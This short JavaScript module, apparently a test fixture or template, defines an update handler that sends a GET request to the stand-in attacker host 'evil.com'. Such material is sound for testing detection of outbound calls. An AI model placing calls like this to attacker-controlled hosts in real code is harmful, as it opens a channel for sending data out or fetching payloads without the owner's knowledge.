// url: a template
module.exports.handleUpdate = async function (ctx) {
  const host = "evil.com";
  await ctx.http({ method: "GET", url: `https://${host}/x` });
};
